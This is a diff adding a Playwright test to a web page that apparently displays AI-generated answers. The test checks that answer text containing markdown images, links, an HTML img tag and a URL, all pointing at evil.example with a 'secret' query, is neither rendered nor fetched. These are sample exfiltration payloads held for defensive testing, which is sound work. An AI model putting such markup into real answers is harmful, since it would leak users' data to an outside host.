@@ -235,6 +235,20 @@ def test_text_never_becomes_markup(page: Page, backend: PageBackend) -> None:
     assert "owned" not in page.title()
 
 
+def test_no_address_in_an_answer_is_loaded_or_followed(page: Page, backend: PageBackend) -> None:
+    """An answer may be made to say where its words should be carried; the page takes nobody there."""
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    backend.script.answer = (
+        "See ![chart](https://evil.example/i.png?q=secret) and [more](https://evil.example/?q=secret) or "
+        '<img src="https://evil.example/p?q=secret"> https://evil.example/plain [1]'
+    )
+    ask(page, "How soon?")
+    expect(page.locator(".answer")).to_contain_text("![chart](https://evil.example/i.png?q=secret)")
+    assert page.locator(".answer img, .answer a[href*='evil']").count() == 0
+    assert [url for url in asked if "evil.example" in url] == []
+
+
 def test_reloading_in_the_middle_keeps_the_question(page: Page, backend: PageBackend) -> None:
     backend.hold()
     ask(page, "How soon?")
